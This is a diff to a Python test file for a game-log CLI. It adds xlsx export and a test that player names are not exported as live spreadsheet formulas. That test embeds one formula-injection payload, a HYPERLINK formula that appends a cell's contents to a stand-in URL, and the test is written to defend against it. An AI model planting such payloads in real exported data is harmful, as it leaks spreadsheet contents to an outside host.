@@ -22,6 +22,7 @@ from knobel.tables.settings import Settings
 from knobel.tables.state import fold
 from tests.cli.conftest import Run, fails
 from tests.logs import ANN, BOT, played
+from tests.spreadsheets import read_xlsx
 
 NOTEBOOKS = Path(__file__).parents[2] / "examples" / "notebooks"
 
@@ -69,7 +70,7 @@ def test_games_are_exported_as_lines(database: str, tmp_path: Path, run: Run) ->
         assert "table CCCCCC: event 3" in ran.err
     for target in tmp_path.iterdir():
         assert stat.S_IMODE(target.stat().st_mode) == 0o600
-    with (tmp_path / "games.csv").open(encoding="utf-8") as file:
+    with (tmp_path / "games.csv").open(encoding="utf-8-sig") as file:
         csv_lines = list(csv.DictReader(file))
     lines = [json.loads(line) for line in (tmp_path / "games.jsonl").read_text().splitlines()]
     table = pl.read_parquet(tmp_path / "games.parquet")
@@ -93,6 +94,31 @@ def test_games_are_exported_as_lines(database: str, tmp_path: Path, run: Run) ->
     assert lines[0]["assisted"] is False
 
 
+@pytest.mark.parametrize("form", ["csv", "xlsx"])
+def test_names_do_not_become_formulas(form: str, tmp_path: Path, run: Run) -> None:
+    formula = '=HYPERLINK("http://x/?"&A1)'
+    log = commands.open_table(replace(ANN, name=formula), Settings(game="knister", seats=1))
+    name = str(tmp_path / "knobel.db")
+
+    async def fill() -> None:
+        store = await Store.open(name)
+        await store.append(Log("AAAAAA"), [entry(seq, event) for seq, event in enumerate(played(log))])
+        await store.close()
+
+    asyncio.run(fill())
+    assert run("export", str(tmp_path / "games"), "--database", name).status == 0
+    assert run("export", str(tmp_path / f"games.{form}"), "--database", name).status == 0
+    assert run("analyse", str(tmp_path / "games"), "--output", str(tmp_path / f"seats.{form}")).status == 0
+    for file in ("games", "seats"):
+        data = (tmp_path / f"{file}.{form}").read_bytes()
+        if form == "xlsx":
+            rows = [dict(zip(read_xlsx(data)[0], row, strict=False)) for row in read_xlsx(data)[1:]]
+            assert rows[0]["name"] == formula
+        else:
+            assert data.startswith(b"\xef\xbb\xbf")
+            assert next(csv.DictReader(data.decode("utf-8-sig").splitlines()))["name"] == f"'{formula}"
+
+
 def test_an_empty_export_has_its_columns_and_types(tmp_path: Path, run: Run) -> None:
     empty = str(tmp_path / "empty.db")
 
@@ -104,7 +130,7 @@ def test_an_empty_export_has_its_columns_and_types(tmp_path: Path, run: Run) -> 
     assert pl.read_parquet(tmp_path / "games.parquet").schema["started"] == pl.Datetime("ms", "UTC")
 
 
-@pytest.mark.parametrize("target", ["games", "games.csv", "games.jsonl", "games.parquet"])
+@pytest.mark.parametrize("target", ["games", "games.csv", "games.jsonl", "games.parquet", "games.xlsx"])
 def test_a_failed_export_leaves_nothing_and_does_not_block_the_next(
     database: str, target: str, tmp_path: Path, run: Run, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -165,7 +191,9 @@ def test_invalid_exports_and_folders_are_refused(database: str, tmp_path: Path, 
     there.write_text("")
     fails(run("export", str(there), "--database", database), "there.csv already exists")
     fails(run("export", str(tmp_path), "--database", database), "already exists")
-    fails(run("export", str(tmp_path / "x.xlsx"), "--database", database), "ends in none of .csv, .jsonl, .parquet")
+    fails(
+        run("export", str(tmp_path / "x.ods"), "--database", database), "ends in none of .csv, .jsonl, .parquet, .xlsx"
+    )
     fails(run("export", str(tmp_path / "y.csv"), "--database", str(tmp_path / "no.db")), "no.db")
     fails(run("analyse", str(tmp_path)), "no records")
     fails(run("analyse", str(tmp_path / "nowhere")), "no records")
